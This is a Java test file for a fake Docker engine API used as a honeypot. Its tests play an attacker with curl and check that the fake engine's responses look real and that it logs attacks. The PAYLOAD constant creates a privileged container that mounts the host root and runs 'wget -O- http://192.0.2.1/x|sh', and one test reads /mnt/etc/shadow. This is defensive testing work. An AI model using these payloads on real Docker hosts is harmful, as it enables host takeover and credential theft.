package io.honeybee.pot.docker;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.pot.PotFixture;
import io.honeybee.pot.RealClient;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An attacker with curl. */
class DockerClientTest {
  private static final Pattern ID = Pattern.compile("\"Id\":\"([0-9a-f]{64})\"");
  private static final String PAYLOAD =
      "{\"Image\":\"alpine\",\"Cmd\":[\"sh\",\"-c\",\"wget -O- http://192.0.2.1/x|sh\"],"
          + "\"HostConfig\":{\"Binds\":[\"/:/mnt\"],\"Privileged\":true,\"NetworkMode\":\"host\"}}";

  @TempDir Path directory;
  private PotFixture pot;

  @BeforeEach
  void start() throws Exception {
    pot = PotFixture.start(new DockerPotType(), directory, Map.of());
  }

  @AfterEach
  void stop() {
    pot.close();
  }

  private String curl(String path, String... options) throws Exception {
    List<String> command = new ArrayList<>(List.of("curl", "-s", "-i"));
    command.addAll(List.of(options));
    command.add("http://127.0.0.1:" + pot.port() + path);
    return RealClient.run("", command.toArray(String[]::new)).output();
  }

  private static String id(String answer) {
    Matcher matcher = ID.matcher(answer);
    assertThat(matcher.find()).as(answer).isTrue();
    return matcher.group(1);
  }

  @Test
  void anEngineSaysWhichItIs() throws Exception {
    assertThat(curl("/_ping"))
        .startsWith("HTTP/1.1 200 OK\r\nApi-Version: 1.43\r\nCache-Control: no-cache, no-store")
        .contains("Server: Docker/24.0.7 (linux)\r\n")
        .endsWith("\r\n\r\nOK");
    assertThat(curl("/v1.41/version"))
        .contains("\"KernelVersion\":\"" + PotFixture.WORLD.kernelRelease());
    assertThat(curl("/info")).contains("\"Name\":\"" + PotFixture.WORLD.hostName() + "\"");
    assertThat(curl("/v1.99/info")).contains("client version 1.99 is too new.");
    assertThat(curl("/nothing"))
        .endsWith("{\"message\":\"page not found\"}\n")
        .doesNotContain("Server:");
  }

  @Test
  void aContainerIsCreatedStartedAndListedAsTheAttackerWants() throws Exception {
    assertThat(curl("/images/create?fromImage=alpine&tag=latest", "-X", "POST"))
        .contains("Status: Image is up to date for alpine:latest");
    String json = "Content-Type: application/json";
    String id = id(curl("/containers/create?name=job", "-H", json, "-d", PAYLOAD));
    assertThat(curl("/containers/" + id + "/start", "-X", "POST")).startsWith("HTTP/1.1 204");
    assertThat(curl("/containers/json")).contains("\"Id\":\"" + id).contains("\"/job\"");
    String exec =
        id(
            curl(
                "/containers/job/exec",
                "-H",
                json,
                "-d",
                "{\"Cmd\":[\"cat\",\"/mnt/etc/shadow\"]}"));
    assertThat(curl("/exec/" + exec + "/start", "-H", json, "-d", "{}"))
        .contains("application/vnd.docker.raw-stream");
    assertThat(curl("/containers/job/logs?stdout=1")).startsWith("HTTP/1.1 200 OK");
    assertThat(curl("/containers/job/wait", "-X", "POST")).contains("\"StatusCode\":0");
    assertThat(curl("/containers/job?force=1", "-X", "DELETE")).startsWith("HTTP/1.1 204");

    assertThat(pot.await("docker-api.image.pull", 1).getFirst().data())
        .containsEntry("image", "alpine:latest");
    assertThat(pot.await("docker-api.container.create", 1).getFirst().data())
        .containsEntry("container", id)
        .containsEntry("image", "alpine")
        .containsEntry("command", List.of("sh", "-c", "wget -O- http://192.0.2.1/x|sh"))
        .containsEntry("binds", List.of("/:/mnt"))
        .containsEntry("privileged", true)
        .containsEntry("network_mode", "host")
        .containsEntry("payload", PAYLOAD)
        .containsEntry("threat_technique_id", List.of("T1610"));
    assertThat(pot.await("docker-api.command.input", 1).getFirst().data())
        .containsEntry("input", "cat /mnt/etc/shadow")
        .containsEntry("threat_technique_id", List.of("T1609"));
    pot.await("docker-api.container.start", 1);
  }

  @Test
  void dockersOwnClientGetsItsStream() throws Exception {
    String json = "Content-Type: application/json";
    String id = id(curl("/containers/create", "-H", json, "-d", PAYLOAD));
    assertThat(
            curl(
                "/v1.43/containers/" + id + "/attach?stream=1",
                "-X",
                "POST",
                "-H",
                "Upgrade: tcp",
                "-H",
                "Connection: Upgrade"))
        .startsWith("HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream")
        .containsSubsequence("Connection: Upgrade", "Upgrade: tcp", "Api-Version: 1.43");
  }

  @Test
  void whatIsNoJsonIsLoggedAndRefused() throws Exception {
    assertThat(curl("/containers/create", "-d", "\u001b[31m<script>"))
        .startsWith("HTTP/1.1 400 Bad Request");
    assertThat(curl("/containers/x%22%0ay/json")).contains("No such container: x\\\"\\u000ay");
    assertThat(pot.await("docker-api.container.create", 1).getFirst().data())
        .containsEntry("payload", "\u001b[31m<script>");
    assertThat(
            curl(
                "/containers/create",
                "-H",
                "Content-Type: application/json",
                "-d",
                "[".repeat(20_000)))
        .startsWith("HTTP/1.1 400 Bad Request");
  }
}
